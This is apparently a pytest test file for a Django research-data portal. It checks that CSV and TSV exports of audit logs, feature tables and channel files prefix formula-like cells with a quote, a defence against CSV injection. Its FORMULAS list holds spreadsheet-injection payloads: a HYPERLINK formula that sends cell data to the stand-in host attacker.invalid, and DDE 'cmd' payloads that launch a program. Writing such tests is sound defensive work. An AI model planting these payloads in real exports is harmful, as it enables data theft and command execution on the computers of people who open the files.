"""Every CSV/TSV export makes inert what a spreadsheet would run as a formula.

Source: OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): cells
beginning with ``=``, ``+``, ``-``, ``@``, tab or carriage return are prefixed with a single
quote. Plain numbers stay numbers (our choice, so the tables remain usable for analysis).
"""

import csv
import io

import pandas as pd
import pytest
from django.urls import reverse

from portal.audit.events import record
from portal.datasets import blobs
from portal.datasets.models import VersionFile
from portal.spreadsheet import safe_cell
from tests.helpers import member
from tests.portal import objects

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://attacker.invalid/?x="&A1,"open")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_are_prefixed(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-0.25", "+3e-6", "12", "alpha", "", "a=b", 7, -1.5, None])
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value


@pytest.fixture
def lab(db):
    from portal.accounts.setup import add_site, add_study

    study, _ = add_study("study-a", name="Study A")
    site, _ = add_site("a1", study_slug="study-a", name="Site A1")
    people = {"operator": member("root", role="operator")[0],
              "analyst": member("ana", role="analyst", site_slug="a1")[0]}
    return {"study": study, "site": site, "people": people,
            "data": objects.fill(site, study, label="a1")}


def _rows(text, delimiter=","):
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def test_audit_csv_escapes_every_cell(client, lab):
    record("test.injected", actor=lab["people"]["analyst"], site=lab["site"],
           study=lab["study"], summary=FORMULAS[0])
    client.force_login(lab["people"]["operator"])
    response = client.get(reverse("audit:export") + "?kind=all")  # every kind, not only research
    text = b"".join(response.streaming_content).decode()
    header, *rows = _rows(text)
    row = next(r for r in rows if r[header.index("verb")] == "test.injected")
    assert row[header.index("summary")] == "'" + FORMULAS[0]
    assert not any(cell.startswith(("=", "+", "@")) for r in _rows(text) for cell in r)


def test_feature_table_csv_escapes_text_columns_and_keeps_numbers(client, lab):
    table = pd.DataFrame({"site": ["a1", "a1"], "participant": [FORMULAS[0], FORMULAS[3]],
                          "level": ["low", "high"], "alpha.relative_power.Cz": [-0.25, 0.5]})
    from cairn_science.features.pipeline import frame_to_parquet

    sha, size = blobs.put_bytes(frame_to_parquet(table))
    feature_set = lab["data"]["objects"]["features"]
    type(feature_set).objects.filter(pk=feature_set.pk).update(table_sha256=sha,
                                                               table_bytes=size, n_rows=2)
    client.force_login(lab["people"]["analyst"])
    response = client.get(reverse("features:download", args=[feature_set.pk, "csv"]))
    rows = _rows(b"".join(response.streaming_content).decode())
    header, body = rows[0], rows[1:]
    column = header.index("participant")
    assert [r[column] for r in body] == ["'" + FORMULAS[0], "'" + FORMULAS[3]]
    number = header.index("alpha.relative_power.Cz")
    assert [float(r[number]) for r in body] == [-0.25, 0.5]


def test_quality_derivative_tsv_escapes_copied_cells_but_not_names(client, lab):
    """The derivative copies the upload's channels.tsv (BIDS: name, type, units,
    description, …); a description that is a formula must not reach a spreadsheet live."""
    version = lab["data"]["objects"]["version"]
    recording = lab["data"]["objects"]["recording"]
    tsv = ("name\ttype\tunits\tdescription\n"
           f"Cz\tEEG\tµV\t{FORMULAS[0]}\n").encode()
    sha, size = blobs.put_bytes(tsv)
    stem = recording.path.rsplit("_", 1)[0]
    VersionFile.objects.create(version=version, path=f"{stem}_channels.tsv", sha256=sha,
                               bytes=size)
    client.force_login(lab["people"]["analyst"])
    response = client.get(reverse("quality:derivative", args=[lab["data"]["round_id"]]))
    assert response.status_code == 200
    import zipfile

    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    name = next(n for n in archive.namelist() if n.endswith("_channels.tsv"))
    rows = _rows(archive.read(name).decode(), delimiter="\t")
    header, first = rows[0], rows[1]
    assert first[header.index("name")] == "Cz"
    assert first[header.index("description")] == "'" + FORMULAS[0]
